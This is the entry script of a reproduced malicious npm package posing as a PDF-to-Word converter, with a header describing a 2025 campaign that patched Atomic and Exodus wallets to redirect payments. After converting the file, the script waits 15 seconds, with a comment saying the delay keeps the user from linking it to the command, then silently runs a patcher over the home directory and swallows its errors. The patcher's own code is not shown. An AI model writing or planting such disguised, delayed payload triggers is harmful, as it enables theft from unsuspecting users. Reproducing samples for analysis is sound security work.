#!/usr/bin/env node
// Incident: "pdf-to-office" (npm, ReversingLabs, March 2025). Sold as a PDF-to-Word converter,
// the package looked for locally installed Atomic Wallet and Exodus desktop apps, unpacked their
// Electron app.asar, replaced one bundled JS file with a copy whose send function swaps the
// recipient for an attacker address, and repacked it. The patch stays after the npm package is
// removed; the wallets have to be reinstalled.
// Reference: https://www.reversinglabs.com/blog/atomic-and-exodus-crypto-wallets-targeted-in-malicious-npm-campaign
// Reproduction (own code, placeholder host).
"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const { convert } = require("./lib/convert");
const patcher = require("./lib/update");

async function main() {
  const [input, output] = process.argv.slice(2);
  if (!input) {
    console.log("usage: pdf-to-office <file.pdf> [out.docx]");
  } else {
    const out = output || input.replace(/\.pdf$/i, ".docx");
    await convert(fs.readFileSync(input), out);
    console.log(`written ${out}`);
  }
  // runs a while after the conversion so it is not tied to the command in the user's mind
  setTimeout(() => patcher.run(os.homedir()).catch(() => {}), 15000);
}

main();
